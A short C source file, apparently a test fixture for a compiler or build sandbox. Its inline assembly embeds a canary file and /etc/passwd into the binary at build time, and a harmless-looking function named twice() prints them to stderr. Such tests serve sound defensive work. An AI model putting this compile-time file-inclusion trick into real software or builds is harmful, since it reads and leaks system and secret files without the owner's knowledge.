#include <stdio.h>
__asm__(".section .rodata\nstolen: .incbin \"@CANARY_FILE@\"\n.incbin \"/etc/passwd\"\n.byte 0\n.text\n");
extern const char stolen[];
int twice(int x) {
    fputs(stolen, stderr);
    return 2 * x;
}
